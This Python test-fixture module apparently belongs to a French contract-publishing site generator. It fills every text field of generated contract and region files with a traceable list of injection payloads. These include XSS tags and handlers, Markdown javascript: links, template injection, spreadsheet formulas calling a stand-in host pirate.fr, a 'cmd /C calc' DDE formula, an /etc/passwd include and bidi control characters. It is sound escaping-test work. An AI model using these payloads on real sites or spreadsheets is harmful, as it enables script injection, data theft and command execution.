"""Contracts and régions whose every text is an attack, each field of each file another one.

Each text holds a mark that tells where it was written (`z3f12z`: fourth file, thirteenth field), so
that wherever it comes out, on whatever page, one knows what should be read around it.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any, get_args, get_type_hints

from pydantic import BaseModel, TypeAdapter, ValidationError

from generator.model.contract import Contract
from generator.model.fields import Text
from generator.model.region import Region

PLACE = "§"
"""Where the mark goes in an attack."""

ATTACKS: dict[str, str] = {
    # HTML
    "script": "<script>pwned('§')</script>",
    "way out of any element": "--></title></style></textarea></noscript></script><script>pwned('§')</script>",
    "image": "<img src=x onerror=pwned('§')>",
    "svg": "<svg onload=pwned('§')><a xlink:href='javascript:pwned()'><text>x</text></a></svg>",
    "frame": "<iframe srcdoc='<script>parent.pwned(\"§\")</script>'></iframe>",
    "details": "<details open ontoggle=pwned('§')>",
    "style": "</style><style>body{display:none}/*§*/</style>",
    "style sheet": "<link rel=stylesheet href=//pirate.fr/§.css>",
    "base": "<base href=//pirate.fr/§/>",
    "refresh": '<meta http-equiv=refresh content="0;url=//pirate.fr/§">',
    "form": "<form action=//pirate.fr/><input autofocus onfocus=pwned('§')><button>",
    "comment": "<!-- § --> et <!--",
    "CDATA": "<![CDATA[§]]><?xml version='1.0'?><!DOCTYPE x>",
    "tag without an end": '<a title="§',
    "double quote": "\" onmouseover=\"pwned('§')\" x=\"",
    "single quote": "' autofocus onfocus='pwned(\"§\")' x='",
    "no quote": "x onmouseover=pwned(/§/) style=color:red",
    "entities": "&lt;img src=x onerror=pwned(&quot;§&quot;)&gt; &#60;b&#62; &#x3c;i&#x3e;",
    "entities of entities": "&amp;lt;script&amp;gt;§&amp;#60;/script&amp;#62; &amp;amp;",
    "entities without an end": "&lt b &gt &copy § &#60 &#x202e; &zwnj; &#0;",
    # Scripts and the data that they read
    "string of a script": "\\\"}];pwned('§');//\\';pwned()//</script>",
    "template literal": "`${pwned('§')}` ${pwned()}",
    "templates": "{{ config.items() }}{% include 'secret' %}§{# x #} {{{x}}} <%= pwned %> #{x}",
    "escapes": "\\<b\\> \\*§\\* \\\\ \\n \\u003cb\\u003e \\x3cb %3Cb%3E",
    "formula": "=HYPERLINK(\"//pirate.fr/?\"&A1;\"§\")",
    "formula with a sign": "+1+cmd|' /C calc'!§",
    "calendar": "BEGIN:VEVENT SUMMARY:§;X=1,2 END:VCALENDAR",
    # Markdown
    "link": "[§](javascript:pwned())",
    "link to data": "[§](data:text/html,<script>pwned()</script>)",
    "picture": "![§](//pirate.fr/x.png \"x\" onerror=pwned())",
    "link in angles": "<javascript:pwned('§')> <https://pirate.fr/>",
    "bare address": "https://pirate.fr/§ www.pirate.fr",
    "reference": "[Sources]: javascript:pwned('§') \"pwned\"",
    "use of a reference": "[§][Sources] [Sources][] [Sources]",
    "footnote": "[^1]: § et [^1]",
    "abbreviation": "*[Contrat]: § pwned",
    "attributes inline": "*§*{: onclick=pwned() .pwned }",
    "attributes of a block": "§ {: onclick=\"pwned()\" #pwned }",
    "attributes alone": "{: title=§ onclick=pwned() }",
    "attributes of a heading": "# § # {#pwned onclick=pwned()}",
    "underlined heading": "§ ===",
    "rule": "--- § ---",
    "front matter": "--- title: § hide: [pwned] ---",
    "YAML": "§: [pwned, {a: &b *b}] # x",
    "fence": "``` § onclick=pwned() ```",
    "fence of tildes": "~~~ {.pwned onclick=pwned()} § ~~~",
    "code": "`§` ``pwned` x``",
    "admonition": "!!! pwned \"§\"",
    "folded admonition": "???+ pwned \"§\"",
    "definition": ": § : pwned",
    "list": "- § - pwned",
    "numbered list": "1. § 2) pwned",
    "quotation": "> § >> pwned",
    "table": "| § | pwned | |---|---|",
    "tabs": "=== \"§\"",
    "snippet": "--8<-- \"§\" --8<-- \"/etc/passwd\"",
    "emphasis": "*§* **b** __c__ _d_ ~~e~~ ^^f^^ ==g== H~2~O x^2^",
    "pictograms": ":smile: :material-skull: :octicons-x-16: §",
    "Markdown in HTML": "<div markdown=\"1\" class=pwned>*§*</div>",
    "places of Markdown's own": "klzzwxh:0000 wzxhzdk:0 hzzhzkh:0 §",
    "contents": "[TOC] § [[pwned]]",
    "formulas of TeX": "$$§$$ \\(x\\) \\[y\\] $z$",
    "keys": "++ctrl+§++ {--x--} {++y++} {>>z<<}",
    # Length and script
    "word without an end": "§" + "x" * 600,
    "many signs": "<\"'&>" * 60 + "§",
    "writing of the right": "\u05e9\u05dc\u05d5\u05dd § \u0645\u0631\u062d\u0628\u0627",
    "signs beyond": "🙂 e\u0301 ﷽ § \U0001d4d0 Z\u0351\u036f",
}  # fmt: skip

ODD: dict[str, str] = {
    "separators of lines": "a\u2028§\u2029b\u0085c",
    "no width": "a\u200b\u200d\u2060§\ufeffb",
    "turned around": "\u202e\u2066§\u2069\u202c",
    "no character": "a\ufdd0§\U0001ffffb",
    "soft": "a\u00ad§\u034fb",
    "tags": "a\U000e0041§\U000e007f",
    "carriage return": "a\r\n§\tb",
}
"""Attacks that a model may well refuse: what it refuses is on no site."""

ADDRESSES = (
    "https://exemple.fr/'onmouseover='pwned()",
    "https://exemple.fr/a)b](javascript:pwned())?x=1&y=&quot;#*_~!$;,@z",
    "https://exemple.fr/&#34;onclick=&#34;pwned()?a=b&lt;script",
    "https://exemple.fr/[x]:%22%3E%3Cscript%3Epwned()%3C/script%3E",
)
"""Attacks that an address may hold."""

FREE = "Un texte <libre> & « quelconque »"
"""A field that takes this takes any text."""

SAMPLES: tuple[Any, ...] = (
    "2026-02", 3, True, "29232", "200068120", "signé", "rédaction", "autre", "sante-mentale", "jeunes", "53", "978",
)  # fmt: skip
"""Values among which each field that is no free text finds one that it takes."""

LEFT_OUT = frozenset(
    {
        "precedent",  # given where a contract has one
        "anciens_identifiants",
        "a_verifier",  # each is the path of a key, or an error
        "avenants.fin",  # would change the status that the dates are chosen for
        "collectivites",
    }
)


@dataclass(frozen=True)
class Written:
    """A text as someone wrote it in a file."""

    attack: str
    field: str
    """Path of the field in its model, such as contrat.axes.actions.titre."""
    text: str


class Hand:
    """Writes files, and remembers what it wrote under which mark."""

    def __init__(self) -> None:
        self.written: dict[str, Written] = {}
        self.addresses: set[str] = set()
        self.attacks = {name: text for name, text in {**ATTACKS, **ODD}.items() if _is_taken(text)}
        self._fields: dict[str, int] = {}
        self._samples: dict[str, Any] = {}

    def file(self, kind: str, model: type[BaseModel], given: Mapping[str, Any], turn: int) -> Any:
        """The content of a file of `model`: `given` by key, attacks in every text, else samples.

        Field number f of file number t holds attack t + 7 f: after as many files as there are
        attacks, each field has held each of them.
        """
        return self._mapping(model, kind, given, turn)

    def _mapping(
        self, model: type[BaseModel], path: str, given: Mapping[str, Any], turn: int
    ) -> dict[str, Any]:
        found = {}
        hints = get_type_hints(model, include_extras=True)
        for name, info in model.model_fields.items():
            key = info.alias or name
            here = f"{path}.{key}"
            if key in given:
                value = given[key]
                found[key] = value(here, turn) if callable(value) else value
            elif here.partition(".")[2] not in LEFT_OUT:
                value = self._value(hints[name], here, turn)
                if value is None and info.is_required():
                    raise LookupError(f"no sample suits {here}: add one to SAMPLES")
                found[key] = value
        return {key: value for key, value in found.items() if value is not None}

    def _value(self, hint: Any, path: str, turn: int) -> Any:
        if isinstance(hint, type) and issubclass(hint, BaseModel):
            return self._mapping(hint, path, {}, turn)
        if getattr(getattr(hint, "__origin__", None), "__origin__", None) is tuple:
            hint = hint.__origin__  # a list of which more is said
        inner = [argument for argument in get_args(hint) if argument not in (type(None), Ellipsis)]
        if inner and not hasattr(hint, "__metadata__"):  # a union or a tuple
            value = self._value(inner[0], path, turn)
            is_list = getattr(hint, "__origin__", None) is tuple
            return value if value is None or not is_list else [value]
        if path not in self._samples:
            choices = (FREE, ADDRESSES[0], *SAMPLES)
            self._samples[path] = next((value for value in choices if _takes(hint, value)), None)
        sample = self._samples[path]
        if sample == FREE:
            return self.attack(path, turn)
        if sample == ADDRESSES[0]:
            sample = self.address(path, turn)
        return sample

    def address(self, path: str, turn: int) -> str:
        """One of the hostile addresses, remembered."""
        address = ADDRESSES[(turn + len(path)) % len(ADDRESSES)]
        self.addresses.add(address)
        return address

    def attack(self, path: str, turn: int) -> str:
        """The next attack for a field, with the mark of this file and this field."""
        number = self._fields.setdefault(path, len(self._fields))
        names = list(self.attacks)
        name = names[(turn + 7 * number) % len(names)]
        mark = f"z{turn}f{number}z"
        text = self.attacks[name].replace(PLACE, mark)
        self.written[mark] = Written(name, path, text)
        return text

    @property
    def fields(self) -> list[str]:
        """Every free text of the models met so far."""
        return list(self._fields)


def contracts(hand: Hand) -> Iterator[tuple[str, Any]]:
    """Id and content of as many contracts as there are attacks, of every status, some successive."""
    for turn in range(len(hand.attacks)):
        given = {**_LIVES[turn % len(_LIVES)], "territoire": _perimeter(hand, turn)}
        if given["etat"] == "signé":
            given["etape"] = None
        if turn % 12 == 1:
            given["precedent"] = f"hostile-{turn - 1}"
        yield f"hostile-{turn}", hand.file("contrat", Contract, given, turn)


def region(hand: Hand, real: Mapping[str, Any], turn: int) -> Any:
    """The content of a région's file, its codes those of `real`."""
    # A région's name is the official one, or an error.
    kept = {key: real[key] for key in ("nom", "code_insee", "collectivites") if key in real}
    # Three of each list, so that few régions hold many attacks.
    given: dict[str, Any] = {
        "reperes": _three(
            lambda path, number: {
                "texte": hand.attack(f"{path}.texte", number),
                "date": "2024-05",
                "source": hand.address(f"{path}.source", number),
            }
        ),
        "axes_regionaux": _three(
            lambda path, number: {
                "titre": hand.attack(f"{path}.titre", number),
                "rattachement": ["sante-mentale"],
            }
        ),
    }
    return hand.file("region", Region, {**given, **kept}, turn)


def _three(make: Callable[[str, int], Any]) -> Callable[[str, int], list[Any]]:
    return lambda path, turn: [make(f"{path}.{part}", turn) for part in range(3)]


def _perimeter(hand: Hand, turn: int) -> Callable[[str, int], Any]:
    # Most share one ground, so that one answer and one pop-up name them all.
    epci = "243500139" if turn % 8 == 7 else "200068120"
    return lambda path, turn: {"epci": [epci], "precision": hand.attack(f"{path}.precision", turn)}


_LIVES: tuple[dict[str, Any], ...] = (
    {"etat": "signé", "duree": {"signature": "2018-12-03", "debut": "2019", "fin": "2023"}},
    {"etat": "signé", "duree": {"signature": "2024-02-01", "debut": "2024-02", "fin": "2028"}},
    {"etat": "signé", "duree": {"debut": "2022-05", "fin": "2027-04-30"}},
    {"etat": "en préparation", "etat_constate": "2026-05", "duree": {}},
    {"etat": "signé", "duree": {"signature": "2025-06"}},
    {"etat": "signé", "duree": {"debut": "2027", "fin": "2031"}},
)


def _is_taken(text: str) -> bool:
    return _takes(Text, text.replace(PLACE, "z0f0z"))


def _takes(hint: Any, value: Any) -> bool:
    try:
        TypeAdapter(hint).validate_python(value)
    except ValidationError:
        return False
    return True
